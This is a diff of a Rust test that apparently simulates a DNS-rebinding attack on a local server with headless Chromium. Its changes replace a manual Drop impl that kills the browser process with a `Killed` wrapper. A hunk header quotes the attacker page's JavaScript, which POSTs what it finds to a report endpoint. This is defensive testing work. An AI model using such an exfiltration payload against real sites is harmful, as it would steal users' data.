@@ -4,7 +4,7 @@
 //! attacker lead there. Like the name server of a rebinding attack, the attacker first hands out its page and
 //! then leads the browser to the server under the same name: it passes on what it gets as it is.
 
-use std::process::{Child, Command, Stdio};
+use std::process::{Command, Stdio};
 
 use serde_json::{Value, json};
 use tempfile::TempDir;
@@ -13,7 +13,7 @@ use tokio::net::{TcpListener, TcpStream};
 use tokio::sync::mpsc;
 
 use super::{nothing_is_stored, rejected};
-use crate::harness::{Server, Setup, fetched};
+use crate::harness::{Killed, Server, Setup, fetched};
 
 const ATTACKER: &str = "127.0.0.2";
 
@@ -79,7 +79,7 @@ await fetch(report, {{method: "POST", mode: "no-cors", body: JSON.stringify(foun
 
 /// A browser that shows one page. It ends when this is dropped.
 struct Chromium {
-    process: Child,
+    _process: Killed,
     _profile: TempDir,
 }
 
@@ -99,14 +99,7 @@ impl Chromium {
             .stderr(Stdio::null())
             .spawn()
             .expect("Chromium runs");
-        Self { process, _profile: profile }
-    }
-}
-
-impl Drop for Chromium {
-    fn drop(&mut self) {
-        self.process.kill().expect("our child");
-        self.process.wait().expect("our child");
+        Self { _process: Killed(process), _profile: profile }
     }
 }
 
